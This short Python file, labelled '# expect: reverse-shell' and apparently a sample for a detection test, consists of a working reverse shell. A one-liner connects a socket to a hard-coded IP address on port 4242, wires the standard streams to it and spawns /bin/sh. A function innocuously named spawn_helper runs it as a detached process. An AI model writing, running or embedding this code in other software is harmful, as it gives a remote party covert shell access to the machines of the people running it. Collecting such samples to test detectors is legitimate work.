# expect: reverse-shell
import subprocess
import sys

ONE_LINER = (
    "import socket,os,pty;s=socket.socket();s.connect(('45.33.32.156',4242));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
)


def spawn_helper():
    subprocess.Popen([sys.executable, "-c", ONE_LINER], start_new_session=True)
